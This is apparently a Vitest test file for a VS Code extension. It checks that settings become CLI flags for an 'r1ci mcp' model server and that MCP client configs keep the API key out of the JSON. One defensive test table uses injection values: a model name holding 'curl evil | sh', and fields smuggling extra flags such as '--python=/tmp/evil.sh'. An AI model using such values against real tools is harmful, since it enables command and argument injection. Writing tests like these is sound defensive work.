// "Copy MCP Server Configuration" starts `r1ci mcp` against the extension's model server and model:
// the flags built from the settings, read back by the CLI's own option parser, give the same run
// options as the settings themselves. The API key is referred to, never written into the JSON.
import { parseArgs } from 'node:util';
import { describe, expect, it } from 'vitest';
import { MODEL_OPTIONS, readModelOptions } from '../../../src/cli/modelOptions';
import { modelFlagsFor } from '../../../src/config/settingFlags';
import { runOptionsFrom, type RunOptions } from '../../../src/config/runOptions';
import { defaultSettings, type Settings } from '../../../src/config/settingsSpec';
import { MCP_API_KEY_ENV, mcpClientConfig } from '../../../src/mcp/clientConfig';

const KEY = 'sk-secret-123';

/** What `r1ci mcp <args>` runs with: the CLI's parser and option reader, with the key in the environment. */
function cliRun(args: readonly string[]): RunOptions {
  const { values } = parseArgs({ args: [...args], options: MODEL_OPTIONS, allowPositionals: false });
  return readModelOptions(values, [], { [MCP_API_KEY_ENV]: KEY }).run;
}

/** The parts of the run options `r1ci mcp` takes from its flags (approval, state and isolation are its own). */
function served(run: RunOptions): unknown {
  const { server, model, protocol, think, maxCodeCalls, temperature, seed, contextTokens, stallSeconds, sandbox } = run;
  return { server, model, protocol, think, maxCodeCalls, temperature, seed, contextTokens, stallSeconds, pythonPath: sandbox.pythonPath, limits: sandbox.limits };
}

const settings = (over: Partial<Settings>): Settings => ({ ...defaultSettings(), ...over });

describe('modelFlagsFor', () => {
  it('gives no flags for the default settings', () => {
    expect(modelFlagsFor(defaultSettings())).toEqual([]);
  });

  it.each<[string, Partial<Settings>, string[]]>([
    ['an Ollama host and model', { 'ollama.host': 'http://gpu-box:11434', model: 'r1-ci:14b' }, ['--model=r1-ci:14b', '--host=http://gpu-box:11434']],
    [
      'an OpenAI-compatible server with its URL, model and sampling',
      { backend: 'openai', 'openai.baseUrl': 'http://10.0.0.5:8000/v1', model: 'Qwen/Qwen3-8B', temperature: 0, seed: 7, think: 'off' },
      ['--backend=openai', '--model=Qwen/Qwen3-8B', '--think=off', '--temperature=0', '--seed=7', '--base-url=http://10.0.0.5:8000/v1'],
    ],
    ['the backend alone (default URL)', { backend: 'openai' }, ['--backend=openai']],
    [
      'budgets, protocol and sandbox limits',
      { maxCodeCalls: 8, protocol: 'tools', contextTokens: 32768, stallSeconds: 300, 'python.path': '/usr/bin/python3', 'sandbox.timeoutSeconds': 30, 'sandbox.memoryMiB': 4096 },
      ['--max-code-calls=8', '--protocol=tools', '--context-tokens=32768', '--stall-seconds=300', '--python=/usr/bin/python3', '--timeout=30', '--memory-mib=4096'],
    ],
  ])('%s: only the values that differ, and the CLI reads them back to the same run', (_name, over, expected) => {
    const s = settings(over);
    const args = modelFlagsFor(s);
    expect(args).toEqual(expected);
    expect(served(cliRun(args))).toEqual(served(runOptionsFrom(s, KEY)));
  });

  // A workspace's settings are not the user's: a value that looks like a flag or shell text must
  // stay the value of its own flag (one argument each, no shell between the client and the CLI).
  it.each<[string, Partial<Settings>]>([
    ['a model name that is a flag', { model: '--python=/tmp/evil.sh' }],
    ['a model name that is a short flag', { model: '-h' }],
    ['a model name that is the end of options', { model: '--' }],
    ['shell text in the model name', { model: 'm"; curl evil | sh; echo "' }],
    ['an Ollama host with spaces, quotes and a flag', { 'ollama.host': 'http://gpu-box:11434/ --python /tmp/evil "x" \'y\'' }],
    ['an OpenAI base URL with a flag in it', { backend: 'openai', 'openai.baseUrl': 'http://10.0.0.5:8000/v1 --base-url=http://evil' }],
    ['a Python path that is a flag', { 'python.path': '--timeout=1' }],
  ])('%s is read back as that same value, adding no flag', (_name, over) => {
    const s = settings(over);
    const args = modelFlagsFor(s);
    expect(args.every((arg) => arg.startsWith('--'))).toBe(true);
    expect(args.length).toBe(Object.keys(over).length);
    expect(served(cliRun(args))).toEqual(served(runOptionsFrom(s, KEY)));
  });

  it('the Ollama host is not passed to an OpenAI-compatible server, nor its URL to Ollama', () => {
    expect(modelFlagsFor(settings({ backend: 'openai', 'ollama.host': 'http://gpu-box:11434' }))).toEqual(['--backend=openai']);
    expect(modelFlagsFor(settings({ 'openai.baseUrl': 'http://10.0.0.5:8000/v1' }))).toEqual([]);
  });
});

describe('mcpClientConfig with the settings', () => {
  const launch = { command: 'node', cliPath: '/ext/dist/cli.js', extraArgs: modelFlagsFor(settings({ backend: 'openai', model: 'm' })) };

  it('starts `r1ci mcp` with the flags in every client', () => {
    const vscode = JSON.parse(mcpClientConfig('vscode', launch)) as { servers: { r1ci: { args: string[] } } };
    expect(vscode.servers.r1ci.args).toEqual(['/ext/dist/cli.js', 'mcp', '--backend=openai', '--model=m']);
    const claude = JSON.parse(mcpClientConfig('claude', launch)) as { mcpServers: { r1ci: { args: string[] } } };
    expect(claude.mcpServers.r1ci.args).toEqual(vscode.servers.r1ci.args);
  });

  it('VS Code asks for the API key in a password input and passes it as R1CI_API_KEY (the launch has no field for the key itself)', () => {
    const json = mcpClientConfig('vscode', { ...launch, apiKey: true });
    const doc = JSON.parse(json) as { inputs: Array<{ id: string; type: string; password: boolean }>; servers: { r1ci: { env: Record<string, string> } } };
    expect(doc.inputs).toEqual([expect.objectContaining({ id: 'r1ci-api-key', type: 'promptString', password: true })]);
    expect(doc.servers.r1ci.env).toEqual({ R1CI_API_KEY: '${input:r1ci-api-key}' });
  });

  it('without a key there is no input and no env', () => {
    const doc = JSON.parse(mcpClientConfig('vscode', launch)) as Record<string, unknown>;
    expect(Object.keys(doc)).toEqual(['servers']);
    expect(JSON.stringify(doc)).not.toContain('env');
  });
});
